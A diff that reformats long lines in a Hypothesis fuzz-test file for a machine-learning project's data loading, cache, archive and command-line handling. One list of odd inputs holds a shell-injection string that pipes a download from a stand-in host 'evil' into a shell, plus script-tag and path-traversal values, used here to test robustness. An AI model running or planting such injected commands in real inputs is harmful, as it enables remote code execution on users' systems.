@@ -49,7 +49,9 @@ TEXT = st.text(st.characters(exclude_categories=()), max_size=8)  # halves of ch
 NUMBERS = st.one_of(
     st.integers(), st.floats(), st.sampled_from([0, -1, 1, 10**400, 1.7e308, 2**31, 2**63, True, 0.5])
 )
-ODD = st.sampled_from(["1; curl evil|sh", "<script>", "../..", "", "x" * 999, "\0", "~nosuchuser/x", "/no/such"])
+ODD = st.sampled_from(
+    ["1; curl evil|sh", "<script>", "../..", "", "x" * 999, "\0", "~nosuchuser/x", "/no/such"]
+)
 SIMPLE = st.one_of(st.none(), st.booleans(), NUMBERS, TEXT, ODD)
 JSON = st.recursive(
     SIMPLE, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXT, inner, max_size=3), max_leaves=5
@@ -127,7 +129,9 @@ def record_of(pattern):
     return next(sorted((ROOT / "results").glob(pattern)).__iter__())
 
 
-GOOD_RECORDS = {path.stem: path for path in map(record_of, ("tsrd/tsrd_small_*.json", "digits/*_lstn_seed0_*.json"))}
+GOOD_RECORDS = {
+    path.stem: path for path in map(record_of, ("tsrd/tsrd_small_*.json", "digits/*_lstn_seed0_*.json"))
+}
 DEEP = st.sampled_from(["[" * 10**5, '{"a":' * 10**5, "[" * 999 + "]" * 999])
 
 
@@ -282,7 +286,9 @@ def _cached():
     with own_folder() as folder:
         write_images(folder)
         images = loaded(folder)
-        return {s: next((folder / "cache/images").glob(f"*{s}")).read_bytes() for s in (".npy", ".json")}, images
+        return {
+            s: next((folder / "cache/images").glob(f"*{s}")).read_bytes() for s in (".npy", ".json")
+        }, images
 
 
 def try_cache(folder, suffix, content):
@@ -363,7 +369,9 @@ def try_archive(folder, file):
 
 # --- parameters -----------------------------------------------------------------------------------------
 
-BACKBONE = or_anything("published", "all", "resnet18", "effb0", "alexnet", "cifar-cnn", "timm/resnet10t", "timm/x")
+BACKBONE = or_anything(
+    "published", "all", "resnet18", "effb0", "alexnet", "cifar-cnn", "timm/resnet10t", "timm/x"
+)
 NETWORK = or_anything("resnet18", "effb0", "timm/resnet10t")
 VARIANT = or_anything("all", "original", "stn", "vstn", "lstn", "lstn-released", "tps", "two")
 DATASET = or_anything("digits", "caltech101", "cifar10", "gtsrb", "mnist-rts")
@@ -415,7 +423,9 @@ RUN = st.tuples(
     word("smoke", "reduced", "full32", "paper"),
 )
 OTHERS = st.one_of(
-    st.tuples(st.just("campaign"), word("table6", "table4"), st.just("--minutes"), word("1", "nan", "x", "0")),
+    st.tuples(
+        st.just("campaign"), word("table6", "table4"), st.just("--minutes"), word("1", "nan", "x", "0")
+    ),
     st.tuples(st.just("data"), st.just("--download"), word("digits", "gtsrb", "")),
     st.tuples(st.just("data"), st.just("--data-dir"), word(".", "/no/such")),
     st.tuples(st.just("copies"), st.just("--data-dir"), word("/no/such")),
@@ -518,7 +528,9 @@ def try_checkpoint(_, file):
 
 KINDS = {
     "records": Kind(st.tuples(record_files()), try_record),
-    "folders of images": Kind(st.tuples(ROOTS, st.sampled_from([0, 0, 0, 0, -1, 1]), st.booleans()), try_folders),
+    "folders of images": Kind(
+        st.tuples(ROOTS, st.sampled_from([0, 0, 0, 0, -1, 1]), st.booleans()), try_folders
+    ),
     "tables of labels": Kind(st.tuples(st.sampled_from(["gtsrb", "tsrd"]), TABLES), try_labels),
     "files in the cache": Kind(st.deferred(cache_files), try_cache),
     "archives": Kind(st.tuples(archives()), try_archive),
